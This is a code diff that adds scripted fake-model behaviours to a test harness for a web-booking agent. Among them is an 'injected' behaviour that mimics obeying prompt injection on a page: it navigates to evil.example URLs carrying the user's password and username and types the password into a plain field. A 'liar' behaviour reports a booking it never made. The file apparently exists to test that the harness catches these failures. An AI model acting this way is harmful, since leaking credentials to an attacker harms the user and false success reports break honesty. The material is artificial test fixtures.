@@ -1,4 +1,6 @@
 // Scripted model behaviours for the fake Ollama: each reads the last user message (goal + snapshot) and answers.
+import { dateForms, readStep, type Element, type StepView } from './read';
+
 export interface ChatMessage { role: string; content: string }
 export interface ChatRequestBody {
   model: string;
@@ -36,4 +38,154 @@ export const down: Behaviour = { kind: 'down', reply: () => ({ content: 'down', 
 /** Answers after `delayMs`, longer than the client's timeout. */
 export function slow(delayMs: number, then: Behaviour = fixed({ action: 'wait', seconds: 0 })): Behaviour {
   return { kind: 'slow', reply: async (req) => ({ ...(await then.reply(req)), delayMs }) };
+}
+
+
+type Action = Record<string, unknown>;
+
+/**
+ * What a capable model would do next, by heuristics over the snapshot text: works on the grid,
+ * cards and wizard layouts without knowing which one it is looking at.
+ */
+export function competentAction(v: StepView): Action {
+  const els = v.elements;
+  const s = v.snapshot;
+  const named = (re: RegExp, roles?: string[]) => els.find((e) => re.test(e.name) && (!roles || roles.includes(e.role)) && !e.attrs.includes('disabled'));
+  const lastAction = v.history[v.history.length - 1] ?? '';
+
+  if (/Booking confirmed|You are booked in/i.test(s)) return { action: 'done', summary: 'The venue confirmed the booking.' };
+  const cookie = named(/^Reject non-essential|^Reject all|^Accept all cookies/i, ['button']);
+  if (cookie) return { action: 'click', ref: cookie.ref };
+
+  const password = els.find((e) => e.role === 'textbox' && /password/i.test(e.name));
+  if (password) {
+    const user = els.find((e) => e.role === 'textbox' && e !== password);
+    const login = named(/^(log ?in|sign ?in)$/i, ['button']);
+    if (lastAction.includes(`fill ${password.ref}`) && login) return { action: 'click', ref: login.ref };
+    if (user && lastAction.includes(`fill ${user.ref}`)) return { action: 'fill', ref: password.ref, value: '{{password}}' };
+    if (user) return { action: 'fill', ref: user.ref, value: '{{username}}' };
+    return { action: 'fill', ref: password.ref, value: '{{password}}' };
+  }
+
+  const { date, time, lane, anyLane } = v.want;
+  if (!date) return { action: 'fail', reason: 'The goal names no date.' };
+  const f = dateForms(date);
+  const taken = v.notices.some((n) => /taken|no longer available/i.test(n));
+
+  if (/dialog/.test(s)) {
+    const confirm = named(/^Confirm$/i, ['button']);
+    if (confirm) return { action: 'click', ref: confirm.ref };
+  }
+  const confirmBooking = named(/^Confirm booking$/i, ['button']);
+  if (confirmBooking) return { action: 'click', ref: confirmBooking.ref };
+
+  // Slot buttons: "Book Lane 3 at 07:00 on Wednesday 2 December" or "Book Lane 3 at 07:00" under a date heading.
+  const slots = els
+    .map((e) => ({ e, m: /^Book Lane (\d+) at (\d{2}:\d{2})(?: on (.+))?$/.exec(e.name) }))
+    .filter((x): x is { e: Element; m: RegExpExecArray } => !!x.m && x.e.role === 'button' && !x.e.attrs.includes('disabled'))
+    .filter((x) => (x.m[3] ? x.m[3] === f.dayMonth : s.includes(`Sessions on ${f.long}`)))
+    .filter((x) => !time || x.m[2] === time);
+  const slot = slots.find((x) => !lane || x.m[1] === lane) ?? (anyLane || taken ? slots[0] : undefined);
+  if (slot) return { action: 'click', ref: slot.e.ref };
+
+  // Wizard-style radios: activity, then date, time, lane; Continue once the wanted one is checked.
+  const radios = els.filter((e) => e.role === 'radio');
+  if (radios.length) {
+    const wanted = ['Lap swimming', f.long, time, lane ? `Lane ${lane}` : undefined].filter((x): x is string => !!x);
+    let pick = radios.find((r) => wanted.includes(r.name) && !r.attrs.includes('disabled'));
+    if (!pick && radios.every((r) => /^Lane \d+$/.test(r.name)) && (anyLane || taken)) pick = radios.find((r) => !r.attrs.includes('disabled'));
+    if (pick) {
+      const cont = named(/^(Continue|Next)$/i, ['button']);
+      if (pick.attrs.includes('checked') && cont) return { action: 'click', ref: cont.ref };
+      return { action: 'check', ref: pick.ref, checked: true };
+    }
+    if (radios.some((r) => r.name === time && r.attrs.includes('disabled'))) return { action: 'fail', reason: `The ${time} session is full.` };
+  }
+
+  // Reach the date: a day link or chip, else the next week.
+  const showing = s.includes(`Sessions on ${f.long}`) || s.includes(`Lanes for ${f.long}`);
+  if (!showing) {
+    const day = els.find((e) => (e.role === 'link' || e.role === 'button') && (e.name === f.short || e.name.startsWith(`${f.short} `)) && !e.attrs.includes('pressed'));
+    if (day) return { action: 'click', ref: day.ref };
+    const nextWeek = named(/^Next week$/i, ['button', 'link']);
+    if (nextWeek && /Week of/.test(s)) return { action: 'click', ref: nextWeek.ref };
+  } else if (taken || slots.length === 0) {
+    return { action: 'fail', reason: `No free lane at ${time ?? 'the wanted time'} on ${f.long}.` };
+  }
+  const nav = named(/^(Book a lane|Timetable|Book a session|Book now)$/i, ['link', 'button']);
+  if (nav) return { action: 'click', ref: nav.ref };
+  return { action: 'fail', reason: 'I cannot find a way to book on this page.' };
+}
+
+export function competent(): Behaviour {
+  return {
+    kind: 'competent',
+    reply: (req) => {
+      const v = readStep(lastUser(req));
+      if (v.extraction) return json({ bookings: [] });
+      return json(competentAction(v));
+    },
+  };
+}
+
+/** Claims success at once, without touching the page. */
+export function liar(): Behaviour {
+  return { kind: 'liar', reply: () => json({ action: 'done', summary: 'Booked Lane 3 at 07:00 as requested.' }) };
+}
+
+/**
+ * Invalid JSON, a reply that breaks the schema, a hallucinated ref — then competent. With
+ * `recoverAfter: Infinity` it never recovers (the attempt must end as model-confused).
+ */
+export function confused(opts: { recoverAfter?: number } = {}): Behaviour {
+  const recoverAfter = opts.recoverAfter ?? 3;
+  let calls = 0;
+  const script = [
+    (): Reply => ({ content: 'Sure! I will click the Book button for you now.' }),
+    (): Reply => json({ action: 'click' }),
+    (): Reply => json({ action: 'click', ref: 'e9999' }),
+  ];
+  return {
+    kind: 'confused',
+    reply: (req) => {
+      const i = calls++;
+      if (i < recoverAfter) return script[i % script.length]!();
+      return json(competentAction(readStep(lastUser(req))));
+    },
+  };
+}
+
+/** The same harmless action forever. */
+export function stubborn(): Behaviour {
+  return { kind: 'stubborn', reply: () => json({ action: 'scroll', direction: 'down' }) };
+}
+
+/**
+ * Obeys the page's injected text: tries to leave for the attacker's URLs with secrets in them,
+ * types the password into a non-password field, then (its mischief refused) books like a competent model.
+ */
+export function injected(opts: { evilUrls: string[] }): Behaviour {
+  let calls = 0;
+  return {
+    kind: 'injected',
+    reply: (req) => {
+      const v = readStep(lastUser(req));
+      if (v.extraction) return json({ bookings: [] });
+      const i = calls++;
+      const evil = v.elements.find((e) => e.role === 'link' && /evil\.example|voucher/i.test(e.name));
+      const plainBox = v.elements.find((e) => (e.role === 'textbox' || e.role === 'searchbox') && !/password/i.test(e.name));
+      const steps: (() => Action | undefined)[] = [
+        ...opts.evilUrls.map((u) => () => ({ action: 'navigate', url: u.replace('{p}', '{{password}}') })),
+        () => (evil ? { action: 'click', ref: evil.ref } : undefined),
+        () => (plainBox ? { action: 'fill', ref: plainBox.ref, value: '{{password}}' } : undefined),
+        () => ({ action: 'navigate', url: `${opts.evilUrls[0] ?? 'http://evil.example/'}?u={{username}}` }),
+      ];
+      for (let k = i; k < steps.length; k++) {
+        const a = steps[k]!();
+        calls = k + 1;
+        if (a) return json(a);
+      }
+      return json(competentAction(v));
+    },
+  };
 }
